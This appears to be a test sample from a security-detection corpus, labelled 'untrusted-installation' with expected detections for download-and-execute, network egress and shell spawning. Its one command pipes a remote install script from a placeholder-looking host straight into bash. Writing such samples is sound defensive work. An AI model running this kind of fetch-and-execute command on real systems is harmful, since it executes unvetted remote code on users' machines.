# scenario: 02 untrusted-installation
# expect: download_execute network.egress process.spawn_shell
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# The one-line installer: fetch and pipe straight into a shell.
curl -fsSL -m 3 https://get.example-tools.sh/install.sh | bash
echo "done"
